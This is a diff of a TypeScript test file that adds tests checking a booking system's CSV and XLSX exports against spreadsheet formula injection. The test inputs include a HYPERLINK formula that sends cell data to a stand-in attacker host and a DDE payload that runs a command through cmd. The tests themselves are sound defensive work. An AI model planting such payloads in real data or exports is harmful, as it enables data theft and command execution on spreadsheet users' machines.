@@ -104,7 +104,8 @@ describe("CSV", () => {
       "010380-000P",
       VALID_CLIENT.lastname,
       'Wheelchair; "front" please',
-      VALID_CLIENT.phone,
+      // A phone number's leading '+' would start a formula: written as text (issue 32).
+      `'${VALID_CLIENT.phone}`,
       // The place as people read it, in the export's language (the demo hall's name pattern R{row}-S{seat}).
       "Rivi 1, paikka 1",
       "Aikuinen",
@@ -192,6 +193,83 @@ describe("XLSX", () => {
     expect(row.getCell(14).value).toBe(39.5);
     expect(row.getCell(14).numFmt).toBe('#,##0.00 "€"');
     expect(row.getCell(12).value).toBe("Vuxen");
+  });
+});
+
+describe("formula injection (issue 32)", () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+  const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
+  let injected: string;
+
+  beforeAll(async () => {
+    ({ occasionId: injected } = await createOccasion(app, { planId: demo.planId, eventPrices: { [demo.ticketTypes.adult!]: 1250 } }));
+    const buyer = new RestClient(app.url);
+    await buyer.bookOk(injected);
+    await buyer.addSpaceOk(demo.space("R3-S1"));
+    const confirmed = await buyer.confirm({
+      ...VALID_CLIENT,
+      firstname: HYPERLINK,
+      lastname: "-5",
+      address: "+SUM(A1:A9)",
+      message: DDE,
+      payment_method_id: "skip",
+      terms_accepted: true,
+    });
+    expect(confirmed.status, confirmed.text).toBe(200);
+  });
+
+  it("CSV: a customer's text that starts a formula is written as text (a leading apostrophe); the app's numbers stay numbers", async () => {
+    const answer = await download(`/api/admin/bookings/export.csv?occasionId=${injected}&lng=en`);
+    expect(answer.status).toBe(200);
+    const [header, ...records]: string[][] = parse(answer.body.toString("utf8"), { delimiter: ";", bom: true });
+    expect(header).toHaveLength(14);
+    expect(records).toHaveLength(1);
+    const cell = (name: string) =>
+      records[0]![
+        [
+          "address",
+          "amount",
+          "bookingId",
+          "bookingStatus",
+          "email",
+          "firstName",
+          "identityNumber",
+          "lastName",
+          "message",
+          "phone",
+          "space",
+          "ticketType",
+          "total",
+          "unitPrice",
+        ].indexOf(name)
+      ]!;
+    expect(cell("firstName")).toBe(`'${HYPERLINK}`);
+    expect(cell("message")).toBe(`'${DDE}`);
+    // By the column's type, not its content: text that looks like a number is still text.
+    expect(cell("lastName")).toBe("'-5");
+    expect(cell("address")).toBe("'+SUM(A1:A9)");
+    expect(cell("phone")).toBe(`'${VALID_CLIENT.phone}`);
+    for (const record of records) for (const value of record) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+    expect([cell("amount"), cell("total"), cell("unitPrice")]).toEqual(["1", "12,50", "12,50"]);
+    expect(cell("bookingId")).toMatch(/^\d+$/);
+  });
+
+  it("XLSX: the same text is a string cell, never a formula, written as it is", async () => {
+    const answer = await download(`/api/admin/bookings/export.xlsx?occasionId=${injected}&lng=en`);
+    expect(answer.status).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(answer.body as unknown as ArrayBuffer);
+    const row = workbook.worksheets[0]!.getRow(2);
+    for (const [column, text] of [
+      [6, HYPERLINK],
+      [9, DDE],
+      [8, "-5"],
+    ] as const) {
+      expect(row.getCell(column).type).toBe(ExcelJS.ValueType.String);
+      expect(row.getCell(column).formula).toBeUndefined();
+      expect(row.getCell(column).value).toBe(text);
+    }
+    expect(row.getCell(13).value).toBe(12.5);
   });
 });
 
